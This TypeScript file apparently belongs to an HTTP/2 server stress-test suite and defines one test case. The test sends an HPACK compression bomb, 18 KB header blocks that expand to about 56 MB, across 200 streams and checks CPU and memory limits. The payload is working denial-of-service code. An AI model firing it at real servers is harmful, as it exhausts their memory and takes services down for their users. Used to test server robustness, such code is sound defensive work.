import type { Attack } from '../attack.ts'
import { flood } from '../tools/flood.ts'
import { endHeaders, endStream, frame, frames, getHeaders } from '../tools/raw-http2.ts'

// A field of 4,000 bytes enters the table; each further byte of the block repeats it.
const entry = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from('x'),
  Buffer.from([127, 4_000 - 127 - 30 * 128 + 128, 30 - 1]),
  Buffer.from('a'.repeat(4_000)),
])
const bomb = Buffer.concat([getHeaders('/api'), entry, Buffer.alloc(14_000, 0xbe)])

export const attack: Attack = {
  title: 'header blocks of 18 KB that become 56 MB (HPACK), on 200 streams',
  limits: { cpuMs: 100, residentMiB: 200, stopMs: 50 },
  run: (target, judge) =>
    flood(target, judge, {
      count: target.pick(200, 10),
      frame: (index) => frame(frames.headers, endHeaders | endStream, 2 * index + 1, bomb),
      mustClose: false,
    }),
}
